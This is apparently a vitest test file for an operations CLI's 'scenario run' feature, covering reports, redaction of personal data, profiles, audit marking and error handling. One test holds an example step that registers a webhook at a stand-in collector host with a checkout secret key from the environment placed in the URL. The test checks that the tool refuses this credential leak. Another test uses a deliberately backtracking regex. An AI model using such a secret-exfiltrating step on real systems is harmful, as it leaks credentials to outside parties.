import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {cliFor, ROOT, type Sandbox, startSandbox} from './harness.js'

describe('opsctl scenario run', () => {
  let sandbox: Sandbox
  beforeAll(async () => {
    sandbox = await startSandbox()
  })
  afterAll(() => sandbox.stop())

  // Twice in a row against the same sandbox: what a run creates must not stand in the next run's way.
  for (const file of ['examples/checkout-happy-path.yaml', 'examples/health-journey.yaml']) {
    it(`runs ${file} green, twice in a row against one sandbox`, async () => {
      for (const run of [1, 2]) {
        const cli = cliFor(sandbox)
        try {
          const result = await cli.run(['scenario', 'run', join(ROOT, file), '--reporter', 'json'], {timeoutMs: 90_000})
          expect(result.code, `run ${run}: ${result.stderr}`).toBe(0)
          const report = JSON.parse(result.stdout)
          expect(report.summary.failed, `run ${run}`).toBe(0)
          expect(report.summary.passed, `run ${run}`).toBe(report.results.length)
        } finally {
          cli.cleanup()
        }
      }
    })
  }

  it("says a failed step's own error message: the message of its {\"error\": ...} document under --json, its Error: line without", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
    const cli = cliFor(sandbox)
    try {
      const cases = [
        {argv: ['checkout', 'get', 'chk-not-there', '--json'], exit: 4},
        {argv: ['checkout', 'void', 'chk-not-there', '--reason', 'late'], exit: 2},
      ]
      for (const {argv, exit} of cases) {
        const direct = await cli.run(argv)
        expect(direct.code).toBe(exit)
        const file = join(dir, 'fails.yaml')
        writeFileSync(file, `steps:\n  - run: opsctl ${argv.map((a) => (a.includes(' ') ? `"${a}"` : a)).join(' ')}\n  - run: opsctl profile list\n`)
        const result = await cli.run(['scenario', 'run', file, '--reporter', 'json'])
        expect(result.code).toBe(1)
        const [step, skipped] = JSON.parse(result.stdout).results
        expect(skipped.outcome).toBe('skipped')
        expect(step.exit).toEqual({code: exit, expected: 0})
        if (argv.includes('--json')) {
          const {error} = JSON.parse(direct.stderr)
          // the same message, but for the request id of each call
          expect(step.message).toBe(error.message.replace(error.requestId, step.requestId))
        } else {
          expect(direct.stderr.split('\n')[0]).toBe(`Error: ${step.message}`)
        }

        // The command in the operation column (not `line 2`), its line beside it
        expect(result.stderr).toContain(`FAIL fails > ${argv.join(' ')} (${argv.slice(0, 2).join(' ')}, line 2)`)
        expect(step).toMatchObject({line: 2, operation: argv.slice(0, 2).join(' ')})
        expect(result.stderr).toContain(`- ${step.message} (exit ${exit}, expected 0)`)
      }
    } finally {
      cli.cleanup()
      rmSync(dir, {force: true, recursive: true})
    }
  })

  it('an email taken twice: the JUnit report, the stdout report and the progress lines show no email and no password', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
    const cli = cliFor(sandbox)
    try {
      const email = `twice-${Date.now()}@demo-clinic.test`
      const password = 'Pw&"Tw1ce"'
      const step = `opsctl users create --type patient --email ${email} --given-name Rosa --family-name Lim --password '${password}'`
      const file = join(dir, 'twice.yaml')
      writeFileSync(file, `name: twice\nsteps:\n  - run: ${step}\n  - run: ${step}\n`)
      const junit = join(dir, 'twice.xml')
      const result = await cli.run(['scenario', 'run', file, '--reporter', 'junit', '--junit-file', junit])
      expect(result.code, result.stderr).toBe(1)
      const xml = readFileSync(junit, 'utf8')
      expect(xml).toMatch(/<failure message="An account with email [*.-]+@[*.-]+ already exists .*\(exit 5, expected 0\)"/)
      expect(xml).toMatch(/<testcase [^>]*name="users create --type patient --email [*.-]+@[*.-]+ /)
      for (const text of [xml, result.stdout, result.stderr]) {
        expect(text).not.toContain(email)
        expect(text).not.toContain('Tw1ce')
        expect(text).not.toContain('Rosa')
      }
    } finally {
      cli.cleanup()
      rmSync(dir, {force: true, recursive: true})
    }
  })

  it('runs every step against the profile given to scenario run', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
    const cli = cliFor(sandbox)
    try {
      const file = join(dir, 'profiled.yaml')
      writeFileSync(file, 'steps:\n  - run: opsctl webhook list --json\n')
      expect((await cli.run(['scenario', 'run', file])).code).toBe(0)
      const result = await cli.run(['scenario', 'run', file, '--profile', 'nowhere', '--reporter', 'json'])
      expect(result.code).toBe(1)
      expect(JSON.parse(result.stdout).results[0]).toMatchObject({exit: {code: 2, expected: 0}, message: 'No profile named "nowhere" (from OPSCTL_PROFILE)'})
    } finally {
      cli.cleanup()
      rmSync(dir, {force: true, recursive: true})
    }
  })

  it("a scenario's checkouts are marked in the audit log: checkout list leaves them out unless --include-runs", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
    const cli = cliFor(sandbox)
    try {
      const file = join(dir, 'create.yaml')
      writeFileSync(file, 'steps:\n  - run: opsctl checkout create --amount 12.34 --json\n    save: {id: checkoutId}\n')
      const scenario = await cli.run(['scenario', 'run', file, '--reporter', 'json'])
      expect(scenario.code, scenario.stderr).toBe(0)
      const mine = JSON.parse((await cli.run(['checkout', 'create', '--amount', '20.00', '--json'])).stdout).checkoutId
      const ids = async (argv: string[]) => JSON.parse((await cli.run(['checkout', 'list', '--json', ...argv])).stdout).checkouts.map((c: any) => c.checkoutId)
      expect(await ids([])).toEqual([mine])
      const all = await ids(['--include-runs'])
      expect(all).toHaveLength(2)
      expect(all[0]).toBe(mine)
      expect((await cli.run(['audit', 'list', '--json'])).stdout).toContain('"run": "scenario"')
    } finally {
      cli.cleanup()
      rmSync(dir, {force: true, recursive: true})
    }
  })

  it('refuses a malformed scenario with file and line before running anything', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
    const cli = cliFor(sandbox)
    try {
      const file = join(dir, 'broken.yaml')
      writeFileSync(
        file,
        'name: broken\nsteps:\n  - run: opsctl customize remove --yes --json\n  - run: opsctl checkout get ${missing} --json\n    expect: {exitcode: 0}\n',
      )
      const before = await sandbox.control('faults')
      const result = await cli.run(['scenario', 'run', file])
      expect(result.code).toBe(2)
      expect(result.stderr).toMatch(new RegExp(`^Error: ${file.replaceAll(/[.*+?^${}()|[\]\\]/g, '\\$&')}:5:\\d+: unknown key "exitcode"`))
      expect(result.stderr).toContain('expected exit, json, stdout, stderr')
      expect(result.stdout).toBe('')
      // nothing ran: the first step would have answered 404 (no customization) into the audit log
      expect((await cli.run(['audit', 'list', '--json'])).stdout).toContain('"entries": []')
      expect(await sandbox.control('faults')).toEqual(before)
    } finally {
      cli.cleanup()
      rmSync(dir, {force: true, recursive: true})
    }
  })

  it('fails on an unmet expectation, names it, and skips the rest', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
    const cli = cliFor(sandbox)
    try {
      const file = join(dir, 'wrong.yaml')
      writeFileSync(
        file,
        'name: wrong\nsteps:\n  - run: opsctl groups config demo-clinic --json\n    expect: {json: {name: {equals: another-clinic}}}\n  - run: opsctl groups config demo-clinic --json\n',
      )
      const result = await cli.run(['scenario', 'run', file, '--reporter', 'json'])
      expect(result.code).toBe(1)
      const report = JSON.parse(result.stdout)
      expect(report.results.map((r: {outcome: string}) => r.outcome)).toEqual(['failed', 'skipped'])
      expect(report.results[0].message).toBe('name: expected "another-clinic", found "demo-clinic"')
    } finally {
      cli.cleanup()
      rmSync(dir, {force: true, recursive: true})
    }
  })

  it('refuses a step that would send a credential from the environment, naming the line, before anything is sent', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
    const cli = cliFor(sandbox)
    try {
      const file = join(dir, 'leak.yaml')
      writeFileSync(
        file,
        'steps:\n  - run: opsctl webhook list --json\n  - run: opsctl webhook register --url https://collector.example/${env:OPSCTL_CHECKOUT_SECRET_KEY} --name CHECKOUT_SUCCESS --json\n',
      )
      const hooks = (await cli.run(['webhook', 'list', '--json'])).stdout
      const result = await cli.run(['scenario', 'run', file, '--reporter', 'json'])
      expect(result.code).toBe(2)
      expect(result.stderr).toMatch(/leak\.yaml:3:\d+: steps\.1: \$\{env:OPSCTL_CHECKOUT_SECRET_KEY\} reads a credential/)
      expect(result.stdout).toBe('')
      expect((await cli.run(['webhook', 'list', '--json'])).stdout).toBe(hooks)
    } finally {
      cli.cleanup()
      rmSync(dir, {force: true, recursive: true})
    }
  })

  it('fails a step whose pattern backtracks without end, after its time limit, instead of hanging', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
    const cli = cliFor(sandbox)
    try {
      const file = join(dir, 'slow.yaml')
      writeFileSync(file, 'steps:\n  - run: opsctl profile list --json\n    expect: {stdout: {matches: "^([\\\\s\\\\S]+)+QQQ$"}}\n  - run: opsctl profile list\n')
      const result = await cli.run(['scenario', 'run', file, '--reporter', 'json'])
      expect(result.code, result.stderr).toBe(1)
      const [step, skipped] = JSON.parse(result.stdout).results
      expect(step.message).toMatch(/^\/\^\(\[\\s\\S\]\+\)\+QQQ\$\/ took longer than 1 s to match/)
      expect(skipped.outcome).toBe('skipped')
    } finally {
      cli.cleanup()
      rmSync(dir, {force: true, recursive: true})
    }
  })
})
